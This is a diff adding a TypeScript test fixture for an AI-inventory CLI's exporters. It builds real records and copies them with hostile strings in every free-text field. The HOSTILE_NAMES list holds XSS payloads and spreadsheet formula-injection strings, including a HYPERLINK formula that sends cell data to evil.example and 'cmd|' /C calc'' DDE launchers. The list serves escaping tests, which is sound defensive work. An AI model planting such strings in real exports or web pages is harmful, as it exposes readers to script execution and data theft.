@@ -1,0 +1,92 @@
+/**
+ * Test records for the exporters: a real inventory, made by the built CLI (dist/, which `npm test`
+ * builds first) from the bundled examples, with governance set through `review` on a few records;
+ * and hostile variants of real records (markup, formula and control characters in every free-text
+ * field a scan or a reviewer can fill).
+ */
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join, resolve } from "node:path";
+import type { AISystemRecord } from "../../src/core/finding.js";
+
+const root = resolve(import.meta.dirname, "../..");
+const bin = join(root, "dist/src/cli/main.js");
+
+function cli(args: string[]): string {
+  if (!existsSync(bin)) throw new Error(`${bin} is missing: run \`npm run build\` first (npm test does)`);
+  const r = spawnSync(process.execPath, [bin, ...args], { encoding: "utf8", cwd: root, maxBuffer: 64 << 20 });
+  if (r.status !== 0) throw new Error(`shadow-ai ${args.join(" ")} exited ${r.status}: ${r.stderr}`);
+  return r.stdout;
+}
+
+let cached: { json: string; records: AISystemRecord[] } | undefined;
+
+/** `inventory --json` of the bundled examples, with governance on three records (raw text and parsed). */
+export function realInventory(): { json: string; records: AISystemRecord[] } {
+  if (cached) return cached;
+  const db = join(mkdtempSync(join(tmpdir(), "shadow-ai-reports-")), "inv.db");
+  cli(["--db", db, "--config", join(root, "examples/shadow-ai.yaml"), "scan"]);
+  cli(["--db", db, "review", "hirevue@hr", "--owner", "hank@example.com", "--status", "under_review", "--purpose", "Screening video interviews; questions to erin@example.com or 127.0.0.21",
+    "--use", "recruitment", "--oversight", "Talent lead reviews every ranking", "--as", "auditor"]);
+  cli(["--db", db, "review", "openai-chatgpt@marketing", "--owner", "Marketing Ops", "--status", "sanctioned", "--purpose", "Drafting campaign copy", "--exposure", "internal", "--as", "auditor"]);
+  cli(["--db", db, "review", "deepseek", "--status", "blocked", "--class", "minimal", "--why", "Blocked at the proxy; no business use", "--as", "auditor"]);
+  const json = cli(["--db", db, "inventory", "--json"]);
+  cached = { json, records: JSON.parse(json) as AISystemRecord[] };
+  return cached;
+}
+
+/** Names that must show as text in HTML and must not evaluate in a spreadsheet. */
+export const HOSTILE_NAMES = [
+  "<img src=x onerror=alert(1)>",
+  '"><script>alert(2)</script>',
+  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "Quote \"in\" name, with comma",
+  "multi\nline\r\nname",
+  "</style><style>body{display:none}</style>",
+  "<svg onload=alert(3)>",
+  "javascript:alert(4)",
+  "&lt;already escaped&gt; & ampersand ' apostrophe",
+] as const;
+
+/** Deep copy. */
+function clone<T>(x: T): T {
+  return JSON.parse(JSON.stringify(x)) as T;
+}
+
+/**
+ * Real records plus one hostile record per HOSTILE_NAMES entry: each a copy of a real record with
+ * the name, vendor, org unit, owner, purpose, oversight, rationale, a user id, a job title, a scope,
+ * a matched identifier and an evidence kind set to the hostile string (ids stay unique).
+ */
+export function hostileRecords(): AISystemRecord[] {
+  const base = realInventory().records;
+  const template = base.find((r) => r.id === "hirevue@hr") ?? base[0]!;
+  const hostile = HOSTILE_NAMES.map((h, i) => {
+    const r = clone(template);
+    r.id = `hostile-${i}@x`;
+    r.serviceId = `hostile-${i}`;
+    r.name = h;
+    r.vendor = h;
+    r.orgUnit = h;
+    r.owner = h;
+    r.governance.owner = h;
+    r.governance.purpose = h;
+    r.governance.oversight = h;
+    r.governance.classOverride = { tier: "high_risk", why: h };
+    r.classification.rationale = `${h} — rationale`;
+    r.jobTitles = [h];
+    r.scopes = [h, ...r.scopes];
+    r.matchedBy = [`domain:${h}`, ...r.matchedBy];
+    r.evidence = { [h]: 1, ...r.evidence };
+    r.users = [{ id: h, kind: "user", department: h, observations: 1, firstSeen: r.firstSeen, lastSeen: r.lastSeen }, ...r.users];
+    r.risk.factors = r.risk.factors.map((f) => ({ ...f, detail: `${f.detail} ${h}` }));
+    return r;
+  });
+  return [...base, ...hostile];
+}
